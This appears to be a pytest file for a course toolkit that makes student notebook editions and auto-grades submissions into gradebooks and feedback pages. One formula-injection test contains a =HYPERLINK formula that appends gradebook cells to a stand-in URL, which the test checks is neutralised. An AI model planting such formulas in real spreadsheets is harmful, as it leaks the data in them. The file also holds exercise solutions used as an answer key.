"""课堂工具：学生版、自动评分（满分 / 零分 / 部分）、网站。"""
from __future__ import annotations

import csv
import io
import json
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from gptcourse_kit.classroom.__main__ import main
from gptcourse_kit.classroom.student import AuthoringError, stub_source, student_notebook


def _meta(grade_id, solution):
    return {"nbgrader": {"solution": solution, "grade": not solution, "locked": not solution,
                         "grade_id": grade_id, "schema_version": 3,
                         **({} if solution else {"points": 1})}}


SOLVED_PAIRS = '''def count_pairs(ids):
    # 提示：数相邻的一对 (ids[i], ids[i+1])
    ### BEGIN SOLUTION
    counts = {}
    for pair in zip(ids, ids[1:]):
        counts[pair] = counts.get(pair, 0) + 1
    return counts
    ### END SOLUTION'''
SOLVED_MERGE = '''def merge_pair(ids, pair, idx):
    # 提示：从左到右扫描，遇到 pair 就换成 idx 并跳过两个
    ### BEGIN SOLUTION
    out, i = [], 0
    while i < len(ids):
        if i + 1 < len(ids) and (ids[i], ids[i + 1]) == tuple(pair):
            out.append(idx)
            i += 2
        else:
            out.append(ids[i])
            i += 1
    return out
    ### END SOLUTION'''


def teacher_nb():
    """一份小小的“教师版”：两道 01 章的练习，外加一个顶层的预测题和一行 show_solution。"""
    return new_notebook(cells=[
        new_markdown_cell("# 练习"),
        new_code_cell("import gptcourse as gc\nguess_vocab = None"),
        new_code_cell(SOLVED_PAIRS, metadata=_meta("nb01-count_pairs", True)),
        new_code_cell("gc.check.nb01.count_pairs(count_pairs);",
                      metadata=_meta("nb01-count_pairs-check", False)),
        new_code_cell(SOLVED_MERGE, metadata=_meta("nb01-merge_pair", True)),
        new_code_cell("gc.check.nb01.merge_pair(merge_pair);",
                      metadata=_meta("nb01-merge_pair-check", False)),
        new_code_cell("# 先猜一猜\n### BEGIN SOLUTION\nguess = 3\n### END SOLUTION",
                      metadata=_meta("nb01-guess", True)),
        new_code_cell("gc.check.show_solution(\"merge_pair\")"),
    ])


def test_stub_source_replaces_function_bodies_and_top_level_answers():
    stub = stub_source(SOLVED_PAIRS)
    assert "counts" not in stub and "BEGIN SOLUTION" not in stub
    assert "raise NotImplementedError('还没完成：数相邻的一对 (ids[i], ids[i+1])')" in stub
    assert stub_source("### BEGIN SOLUTION\na = 1\nb: int = 2\n### END SOLUTION") == \
        "a = None  # 在这里填写你的答案\nb = None  # 在这里填写你的答案"
    with pytest.raises(AuthoringError, match="配对"):
        stub_source("def f():\n    ### BEGIN SOLUTION\n    return 1")
    with pytest.raises(AuthoringError, match="赋值"):
        stub_source("### BEGIN SOLUTION\nprint(1)\n### END SOLUTION")


def test_student_edition_keeps_everything_else():
    nb = teacher_nb()
    nb.cells[3].outputs = [nbformat.v4.new_output("stream", text="正确 ✓\n")]
    nb.cells[3].execution_count = 3
    st = student_notebook(nb)
    assert len(st.cells) == len(nb.cells)             # show_solution 那格删掉，末尾加“怎样提交”
    assert st.cells[-1].source.startswith("## 怎样提交")
    assert all("show_solution" not in c.source for c in st.cells)
    assert all(not c.get("outputs") and c.get("execution_count") is None
               for c in st.cells if c.cell_type == "code")
    assert st.cells[2].metadata == nb.cells[2].metadata            # nbgrader 元数据保留
    assert st.cells[3].source == nb.cells[3].source                # 评分单元格原样
    assert nb.cells[2].source == SOLVED_PAIRS                      # 原笔记本不变


def reference_nb():
    """评分用的教师版：teacher_nb() 之后再加三个演示单元格，都调用学生的 merge_pair。"""
    nb = teacher_nb()
    nb.cells += [new_code_cell("print(merge_pair([1, 2, 1, 2], (1, 2), 9))") for _ in range(3)]
    return nb


CELL_TIMEOUT = 6


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """一个班（文件名 <学号>_<姓名>.ipynb）：全对、空白、一题对一题死循环、一题写错、删掉一题且
    另一题语法错误、坏掉的文件——用命令行一次评完，写出 JSON 与两种 CSV。"""
    d = tmp_path_factory.mktemp("class")
    ref = tmp_path_factory.mktemp("ref")
    nbformat.write(reference_nb(), ref / "01_tiny.ipynb")
    partial = student_notebook(teacher_nb())
    partial.cells[2].source = SOLVED_PAIRS                                  # 第一题做对了
    partial.cells[4].source = "def merge_pair(ids, pair, idx):\n    while True:\n        pass"
    wrong = student_notebook(teacher_nb())
    wrong.cells[2].source = SOLVED_PAIRS.replace("+ 1", "+ 2")
    deleted = student_notebook(teacher_nb())
    deleted.cells[4].source = "def merge_pair(ids, pair, idx)\n    return ids"
    del deleted.cells[2]
    class_ = {"2024001_张三": teacher_nb(), "2024002_李四": student_notebook(teacher_nb()),
              "2024003_欧阳小明": partial, "2024004_Ann": wrong, "2024005_赵六": deleted}
    for name, nb in class_.items():
        nbformat.write(nb, d / f"{name}.ipynb")
    (d / "2024006_坏文件.ipynb").write_text("{ not json", encoding="utf-8")
    paths = sorted(str(p) for p in d.glob("*.ipynb"))
    rc = main(["grade", *paths, "--reference", str(ref), "--json", str(d / "g.json"),
               "--csv", str(d / "g.csv"), "--long-csv", str(d / "long.csv"),
               "--timeout", "120", "--cell-timeout", str(CELL_TIMEOUT), "--jobs", "2",
               "--feedback", str(d / "反馈")])
    assert rc == 0
    data = json.loads((d / "g.json").read_text(encoding="utf-8"))
    return {r["student"]: r for r in data}, d


def _status(sub):
    return {e["exercise"]: e["status"] for e in sub["exercises"]}


def test_grading_statuses_are_distinct(graded):
    subs, _ = graded
    assert [e["exercise"] for e in subs["2024001"]["exercises"]] == ["count_pairs", "merge_pair"]
    assert _status(subs["2024001"]) == {"count_pairs": "正确", "merge_pair": "正确"}
    assert _status(subs["2024002"]) == {"count_pairs": "未作答", "merge_pair": "未作答"}
    assert _status(subs["2024003"]) == {"count_pairs": "正确", "merge_pair": "超时"}
    assert _status(subs["2024004"]) == {"count_pairs": "答案不对", "merge_pair": "未作答"}
    assert _status(subs["2024005"]) == {"count_pairs": "未作答", "merge_pair": "出错"}
    msg = {e["exercise"]: e["message"] for e in subs["2024002"]["exercises"]}
    assert msg["count_pairs"].startswith("还没完成")
    assert subs["2024001"]["exercises"][0] == {"exercise": "count_pairs", "passed": True,
                                               "status": "正确", "message": "正确",
                                               "judged": "referee",
                                               "weight": 2.0, "points": 2.0}
    wrong = {e["exercise"]: e["message"] for e in subs["2024004"]["exercises"]}
    assert "期望结果" in wrong["count_pairs"]
    assert "语法错误" in {e["exercise"]: e["message"]
                      for e in subs["2024005"]["exercises"]}["merge_pair"]
    assert subs["2024006"]["score"] == 0 and "读不了" in subs["2024006"]["error"]
    assert subs["2024003"]["name"] == "欧阳小明"


def test_an_endless_exercise_costs_one_timeout(graded):
    """死循环只在检查时等一次 cell_timeout；后面三个调用它的演示单元格不再等。"""
    subs, _ = graded
    timed = {e["exercise"]: e["message"] for e in subs["2024003"]["exercises"]}["merge_pair"]
    assert timed.startswith(f"超时：运行超过 {CELL_TIMEOUT} 秒")
    # 三个演示单元格若各等一次，就会各留下一条“调用你写的代码超过 … 秒，被中断”的说明
    assert subs["2024003"]["notes"] == [], subs["2024003"]["notes"]


def test_gradebook_csv_one_row_per_student_with_totals(graded):
    _, d = graded
    raw = (d / "g.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                          # BOM：Excel 认出 UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["学号", "姓名", "count_pairs（2分）", "merge_pair（2分）", "总分", "满分",
                       "百分比", "备注"]
    body = {r[0]: r[1:] for r in rows[1:]}
    assert len(rows) == 7 and len(body) == 6
    assert body["2024001"][:7] == ["张三", "2", "2", "4", "4", "100.0", ""]
    assert body["2024002"][:6] == ["李四", "0", "0", "0", "4", "0.0"]
    assert body["2024003"][:6] == ["欧阳小明", "2", "0", "2", "4", "50.0"]
    assert body["2024006"][1:3] == ["", ""] and "读不了" in body["2024006"][-1]
    long = list(csv.reader(io.StringIO((d / "long.csv").read_text(encoding="utf-8-sig"))))
    assert long[0][:6] == ["学号", "姓名", "笔记本", "章节", "练习", "结果"]
    assert long[0][-1] == "判决" and {r[-1] for r in long[1:] if r[4]} == {"裁判进程", "未运行"}
    assert len(long) == 1 + 5 * 2 + 1
    assert all("\n" not in c for r in long for c in r)


def test_feedback_pages_one_per_student(graded):
    """--feedback：每份作业一页 HTML，列出每道题的结果、得分与检查器的说明（转义过）。"""
    _, d = graded
    pages = sorted(p.name for p in (d / "反馈").glob("*.html"))
    assert pages == ["2024001_张三_nb01.html", "2024002_李四_nb01.html",
                     "2024003_欧阳小明_nb01.html", "2024004_Ann_nb01.html",
                     "2024005_赵六_nb01.html", "2024006_坏文件_未知.html"]
    full = (d / "反馈" / "2024001_张三_nb01.html").read_text(encoding="utf-8")
    assert "得分 <b>4 / 4</b>" in full and full.count("✓ 正确") == 2
    wrong = (d / "反馈" / "2024004_Ann_nb01.html").read_text(encoding="utf-8")
    assert "✗ 答案不对" in wrong and "期望结果：" in wrong
    assert "<pre>还不对：" in wrong and "judge_log" not in wrong
    broken = (d / "反馈" / "2024006_坏文件_未知.html").read_text(encoding="utf-8")
    assert "<h2>备注</h2>" in broken and "读不了这个笔记本" in broken


def test_printed_table_is_aligned_by_display_width(graded, capsys):
    subs, d = graded
    from gptcourse_kit.classroom.grade import Submission
    from gptcourse_kit.classroom.gradebook import display_width, table
    fake = [Submission(Path(n), "nb01", [{"exercise": "count_pairs", "passed": True,
                                          "status": "正确", "message": "正确"}])
            for n in ("2024001_张三.ipynb", "7_Ann.ipynb", "2024003_欧阳小明.ipynb")]
    lines = table(fake).splitlines()[-4:]
    marks = [display_width(line[:line.index(m)]) for line, m in zip(lines, "1✓✓✓")]
    assert len(set(marks)) == 1, lines
    assert lines[1].startswith("2024001  张三") and "作业/" not in table(fake)


def test_weights_file_overrides_kinds_and_exercises(tmp_path):
    from gptcourse_kit.classroom.gradebook import exercise_kind, load_weights, weight
    assert exercise_kind("nb01", "guess_leak") == "predict"
    assert exercise_kind("nb01", "bpe_train") == "build"
    assert weight("nb01", "guess_leak") == 1 and weight("nb01", "bpe_train") == 2
    (tmp_path / "w.toml").write_text("[kinds]\npredict = 0.5\n[nb01]\nbpe_train = 5\n",
                                     encoding="utf-8")
    w = load_weights(tmp_path / "w.toml")
    assert weight("nb01", "guess_leak", w) == 0.5 and weight("nb01", "bpe_train", w) == 5
    assert weight("nb01", "merge_pair", w) == 2
    (tmp_path / "w.json").write_text('{"nb01": {"merge_pair": 3}}', encoding="utf-8")
    assert weight("nb01", "merge_pair", load_weights(tmp_path / "w.json")) == 3
    for text, match in [('{"nb09": {}}', "不认识"), ('{"nb01": {"nope": 1}}', "没有 'nope'"),
                        ('{"nb01": {"merge_pair": -1}}', "0 到 1000 之间的数"), ("{", "格式不对")]:
        (tmp_path / "bad.json").write_text(text, encoding="utf-8")
        with pytest.raises(ValueError, match=match):
            load_weights(tmp_path / "bad.json")


@pytest.mark.slow
def test_jobs_2_runs_two_sandboxes_at_once(tmp_path, monkeypatch):
    """三个学生：--jobs 2 时同时有两个沙箱在跑，--jobs 1 时只有一个（数的是同时在运行的沙箱，
    不量墙钟时间）。"""
    from gptcourse_kit.classroom import sandbox
    ref = tmp_path / "ref"
    ref.mkdir()
    nbformat.write(teacher_nb(), ref / "01_tiny.ipynb")
    paths = []
    for i in range(3):
        nbformat.write(teacher_nb(), tmp_path / f"20240{i}_学生{i}.ipynb")
        paths.append(str(tmp_path / f"20240{i}_学生{i}.ipynb"))
    real, lock, state = sandbox.run, threading.Lock(), {"now": 0, "most": 0}

    def counting(*args, **kwargs):
        with lock:
            state["now"] += 1
            state["most"] = max(state["most"], state["now"])
        try:
            return real(*args, **kwargs)
        finally:
            with lock:
                state["now"] -= 1
    monkeypatch.setattr(sandbox, "run", counting)
    for jobs in (1, 2):
        state["most"] = 0
        assert main(["grade", *paths, "--reference", str(ref), "--jobs", str(jobs),
                     "--json", str(tmp_path / f"j{jobs}.json")]) == 0
        scores = [r["score"] for r in json.loads((tmp_path / f"j{jobs}.json").read_text())]
        assert scores == [2, 2, 2]
        assert state["most"] == jobs


def test_cli_errors_are_one_line_exit_2(tmp_path, capsys):
    assert main(["grade", str(tmp_path / "nope.ipynb")]) == 2
    assert "找不到作业" in capsys.readouterr().err
    for bad in (["--timeout", "-1"], ["--jobs", "0"], ["--jobs", "x"]):
        with pytest.raises(SystemExit) as e:
            main(["grade", "x.ipynb", *bad])
        assert e.value.code == 2
    for name in ("2024001_张三.ipynb", "2024001_张三_重交.ipynb"):
        nbformat.write(teacher_nb(), tmp_path / name)
    capsys.readouterr()
    assert main(["grade", *map(str, sorted(tmp_path.glob("*.ipynb")))]) == 2
    assert "两份作业的学号都是 2024001" in capsys.readouterr().err
    (tmp_path / "w.json").write_text("{", encoding="utf-8")
    assert main(["grade", str(tmp_path / "2024001_张三.ipynb"), "--weights",
                 str(tmp_path / "w.json")]) == 2


def test_student_command_on_the_course_notebooks(tmp_path):
    assert main(["student", "--out", str(tmp_path)]) == 0
    written = sorted(p.name for p in tmp_path.glob("*.ipynb"))
    assert written == ["01_data_tokenizer.ipynb", "02_attention_mask.ipynb",
                       "03_training_loop.ipynb", "04_evaluation.ipynb", "05_inference.ipynb"]
    for p in tmp_path.glob("*.ipynb"):
        nb = nbformat.read(p, as_version=4)
        text = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
        assert "BEGIN SOLUTION" not in text and "show_solution(" not in text


def test_without_a_sandbox_grading_says_so_in_one_line(tmp_path, monkeypatch, capsys):
    """macOS / Windows / 没有 bubblewrap：照常评分，但先打印一行“不封闭”的说明。"""
    from gptcourse_kit.classroom import sandbox
    monkeypatch.setattr(sys, "platform", "darwin")
    assert sandbox.probe.__wrapped__() == "darwin 上没有 bubblewrap"
    monkeypatch.setattr(sys, "platform", "linux")
    monkeypatch.setattr(sandbox, "probe", lambda: "测试里假装没有 bubblewrap")
    ref = tmp_path / "ref"
    ref.mkdir()
    nbformat.write(teacher_nb(), ref / "01_tiny.ipynb")
    nbformat.write(teacher_nb(), tmp_path / "2024001_张三.ipynb")
    assert main(["grade", str(tmp_path / "2024001_张三.ipynb"), "--reference", str(ref),
                 "--json", str(tmp_path / "g.json")]) == 0
    err = [line for line in capsys.readouterr().err.splitlines() if "不封闭" in line]
    assert len(err) == 1 and "测试里假装没有 bubblewrap" in err[0]
    assert json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))[0]["score"] == 2


def test_checks_in_a_different_order_than_exercises(tmp_path):
    """教师版里练习的顺序和 EXERCISES 不同：照样判（表按 EXERCISES 的顺序排）。"""
    nb = teacher_nb()
    nb.cells[2:4], nb.cells[4:6] = nb.cells[4:6], nb.cells[2:4]
    (tmp_path / "ref").mkdir()
    nbformat.write(nb, tmp_path / "ref" / "01_tiny.ipynb")
    nbformat.write(nb, tmp_path / "2024001_张三.ipynb")
    assert main(["grade", str(tmp_path / "2024001_张三.ipynb"), "--reference",
                 str(tmp_path / "ref"), "--json", str(tmp_path / "g.json")]) == 0
    r = json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))[0]
    assert [(e["exercise"], e["status"]) for e in r["exercises"]] == [
        ("count_pairs", "正确"), ("merge_pair", "正确")]


# ------------------------------------------------------------- 可靠性（issue 51：R2、R4、R9、R10）
def test_a_gbk_named_submission_is_graded_and_every_output_is_written(tmp_path, capsys):
    """R2（C22）：中文 Windows 的压缩包解到 Linux 上，文件名是 GBK 的字节；学号、姓名照样认出来，
    成绩册、JSON、反馈页都写出来，不留临时文件。"""
    import os
    ref = tmp_path / "ref"
    ref.mkdir()
    nbformat.write(reference_nb(), ref / "01_tiny.ipynb")
    d = tmp_path / "class"
    d.mkdir()
    nbformat.write(teacher_nb(), d / "2024001_ok.ipynb")
    gbk = os.fsdecode(d.as_posix().encode() + b"/2024002_" + "张三".encode("gbk") + b".ipynb")
    nbformat.write(student_notebook(teacher_nb()), gbk)
    out = tmp_path / "out"
    out.mkdir()
    rc = main(["grade", str(d / "2024001_ok.ipynb"), gbk, "--reference", str(ref),
               "--json", str(out / "g.json"), "--csv", str(out / "g.csv"),
               "--feedback", str(out / "fb"), "--timeout", "120", "--jobs", "1"])
    assert rc == 0, capsys.readouterr().err
    rows = {r["student"]: r for r in json.loads((out / "g.json").read_text(encoding="utf-8"))}
    assert rows["2024002"]["name"] == "张三" and rows["2024002"]["notebook"].endswith("张三.ipynb")
    assert "张三" in (out / "g.csv").read_text(encoding="utf-8-sig")
    assert len(list((out / "fb").glob("*.html"))) == 2
    assert sorted(p.name for p in out.iterdir()) == ["fb", "g.csv", "g.json"]     # 没有 .tmp


def test_feedback_names_that_collide_after_cleaning_get_a_suffix():
    """R4（C32）：学号 1@ 与 1# 清洗后都是 1_：第二页加 -2，谁的反馈页都不丢。"""
    from gptcourse_kit.classroom.grade import Submission
    from gptcourse_kit.classroom.gradebook import feedback_names
    subs = [Submission(Path("1@_x_01.ipynb"), chapter="nb01"),
            Submission(Path("1#_x_01.ipynb"), chapter="nb01"),
            Submission(Path("2_y_01.ipynb"), chapter="nb01")]
    names = feedback_names(subs)
    assert len(set(names.values())) == 3
    assert names[subs[1].path] == names[subs[0].path].replace(".html", "-2.html")


def test_a_failed_write_leaves_no_temporary_file(tmp_path):
    """R2：写到一半出错，临时文件也删掉。"""
    from gptcourse.errors import MachineError
    from gptcourse_kit.classroom.gradebook import _atomic_write

    def boom(f):
        f.write("一半")
        raise OSError(28, "No space left on device")
    with pytest.raises(MachineError, match="磁盘已满"):
        _atomic_write(tmp_path / "g.csv", boom)
    assert list(tmp_path.iterdir()) == []


def test_outputs_are_checked_before_grading_starts(tmp_path, capsys):
    """R9（C12、C16、C39）：--csv / --json 是目录、上级是文件、--feedback 是文件：评分之前
    一行错误，退出码 2，什么都没写。"""
    sub = tmp_path / "2024001_张三.ipynb"
    nbformat.write(teacher_nb(), sub)
    (tmp_path / "dir").mkdir()
    (tmp_path / "file").write_text("x", encoding="utf-8")
    for flag, value, message in (("--csv", "dir", "是一个目录"), ("--json", "dir", "是一个目录"),
                                 ("--long-csv", "file/g.csv", "它是一个文件"),
                                 ("--feedback", "file", "不是目录")):
        assert main(["grade", str(sub), flag, str(tmp_path / value)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and message in err and "评完" not in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2024001_张三.ipynb", "dir", "file"]


@pytest.mark.parametrize("flag", ["--timeout", "--memory", "--cell-timeout"])
def test_infinite_limits_are_refused(flag):
    """R9（C17、C18）：inf 之后要换成整数秒或字节，argparse 就拒绝它。"""
    with pytest.raises(SystemExit) as e:
        main(["grade", "x.ipynb", flag, "inf"])
    assert e.value.code == 2


def test_weights_must_be_a_regular_file_and_points_bounded(tmp_path, capsys):
    """R9（C19）：FIFO 当分值文件会卡住——先拒绝；R10（C21）：每个都有限、加起来是 inf 的分值。"""
    import os
    sub = tmp_path / "2024001_张三.ipynb"
    nbformat.write(teacher_nb(), sub)
    os.mkfifo(tmp_path / "w.fifo")
    assert main(["grade", str(sub), "--weights", str(tmp_path / "w.fifo")]) == 2
    assert "不是一个普通文件" in capsys.readouterr().err
    (tmp_path / "w.json").write_text('{"kinds": {"build": 1e308, "predict": 1e308}}',
                                     encoding="utf-8")
    assert main(["grade", str(sub), "--weights", str(tmp_path / "w.json")]) == 2
    assert "0 到 1000 之间的数" in capsys.readouterr().err


def test_os_errors_are_one_line_with_the_reason(tmp_path, capsys):
    """R9（C03、C10）：只读目录、名字太长——一行说出原因与文件名，退出码 2，不是堆栈。"""
    long = tmp_path / ("长" * 100)
    assert main(["student", "--out", str(long)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "File name too long" in err


def test_times_with_an_unknown_notebook_exits_2(capsys):
    """R9（C36）：名字打错是用户的错：一行，退出码 2（原来是 1）。"""
    from gptcourse_kit.notebooks import main as nb_main
    assert nb_main(["check", "99_nope"]) == 2
    assert "找不到笔记本 '99_nope'" in capsys.readouterr().err
    assert main(["times", "99_nope"]) == 2


def test_an_output_that_is_a_submission_is_refused(tmp_path, capsys):
    """R3（C14）：--csv 写成了学生的作业本身——评分之前拒绝，作业一字节不变。"""
    sub = tmp_path / "2024001_张三.ipynb"
    nbformat.write(teacher_nb(), sub)
    before = sub.read_bytes()
    for flag in ("--csv", "--json", "--long-csv"):
        assert main(["grade", str(sub), flag, str(sub)]) == 2
        err = capsys.readouterr().err
        assert "是这条命令要读的文件" in err and err.count("\n") == 1, err
    assert sub.read_bytes() == before


def test_a_copied_or_unlabelled_answer_cell_is_graded_with_a_note(tmp_path):
    """R1（C27–C29）：复制粘贴出来的同名答案单元格（存根在前、答案在后）评写过的那一个；答案
    单元格的 nbgrader 元数据被编辑器删掉了，按学生写的定义评——两种都在 notes 里说明。"""
    import copy
    ref = tmp_path / "ref"
    ref.mkdir()
    nbformat.write(reference_nb(), ref / "01_tiny.ipynb")
    dup = student_notebook(teacher_nb())
    answered = copy.deepcopy(dup.cells[2])
    answered.source, answered.id = SOLVED_PAIRS, "copy"
    dup.cells.insert(3, answered)
    stripped = student_notebook(teacher_nb())
    stripped.cells[4].metadata = {}
    stripped.cells[4].source = "\n".join([                    # 与教师版不同的写法
        "def merge_pair(ids, pair, idx):", "    out = []", "    for x in ids:",
        "        if out and (out[-1], x) == tuple(pair):", "            out[-1] = idx",
        "        else:", "            out.append(x)", "    return out"])
    nbformat.write(dup, tmp_path / "2024001_dup.ipynb")
    nbformat.write(stripped, tmp_path / "2024002_strip.ipynb")
    subs = [str(tmp_path / f) for f in ("2024001_dup.ipynb", "2024002_strip.ipynb")]
    assert main(["grade", *subs, "--reference", str(ref), "--json", str(tmp_path / "g.json"),
                 "--jobs", "1"]) == 0
    rows = {r["student"]: r for r in json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))}
    assert _status(rows["2024001"])["count_pairs"] == "正确"
    assert any("2 个同名的答案单元格" in n for n in rows["2024001"]["notes"])
    assert _status(rows["2024002"])["merge_pair"] == "正确"
    assert any("评分信息丢了" in n for n in rows["2024002"]["notes"]), rows["2024002"]["notes"]


def test_a_formula_in_a_name_or_a_note_is_not_a_formula_in_the_gradebook(tmp_path):
    """grading review F7（0221）：学生起的名字 =1+2、代码发来的 =HYPERLINK(...)——成绩册里前面加 '，
    表格软件不会执行。"""
    from gptcourse_kit.classroom.grade import Submission
    from gptcourse_kit.classroom.gradebook import write_csv, write_long_csv
    sub = Submission(Path("0221_=1+2_01.ipynb"), chapter="nb01")
    sub.notes = ['=HYPERLINK("https://example.invalid/?"&A2&B2,"成绩申诉")']
    write_csv([sub], tmp_path / "g.csv")
    write_long_csv([sub], tmp_path / "long.csv")
    for name in ("g.csv", "long.csv"):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "'=1+2" in (tmp_path / "g.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("source, flag", [
    ("causal_mask = gc.model.causal_mask", "= gc.model.causal_mask"),
    ("class MLP(gc.model.MLP):\n    pass", "class MLP(gc.model.MLP)"),
    ("def count_pairs(ids):\n    return gc.bpe.get_stats(ids)", "只是 return gc.bpe.get_stats"),
    ("def f(m):\n    x = gc.check.nb02_model.solution_make_leaky(m)\n    return x",
     "调用了 gc.check.nb02_model.solution_make_leaky"),
])
def test_answers_that_hand_in_the_package_reference_are_flagged(source, flag):
    """grading review F2：把包里的参考实现直接当答案——说明里提醒老师看一眼（不扣分）。"""
    from gptcourse_kit.classroom.grade import reference_uses
    assert any(flag in f for f in reference_uses(source)), reference_uses(source)


def test_no_teacher_answer_and_no_use_of_a_package_helper_is_flagged():
    from gptcourse.runtime import ROOT
    from gptcourse_kit.classroom.grade import reference_uses
    assert reference_uses("def g(poem):\n    t = gc.verse.tone(poem[1])\n    return t") == []
    for path in sorted((ROOT / "notebooks").glob("0*.ipynb")):
        for c in nbformat.read(path, as_version=4).cells:
            if c.metadata.get("nbgrader", {}).get("solution"):
                assert reference_uses(c.source) == [], (path.name, c.metadata["nbgrader"])


def test_a_flagged_answer_carries_a_note_in_the_gradebook(tmp_path):
    ref = tmp_path / "ref"
    ref.mkdir()
    nbformat.write(reference_nb(), ref / "01_tiny.ipynb")
    nb = student_notebook(teacher_nb())
    nb.cells[2].source = ("import gptcourse as gc\n\n"
                          "def count_pairs(ids):\n    return gc.bpe.get_stats(ids)")
    nbformat.write(nb, tmp_path / "4006_x.ipynb")
    assert main(["grade", str(tmp_path / "4006_x.ipynb"), "--reference", str(ref),
                 "--csv", str(tmp_path / "g.csv"), "--jobs", "1"]) == 0
    assert "疑似直接用了包里的参考实现" in (tmp_path / "g.csv").read_text(encoding="utf-8-sig")
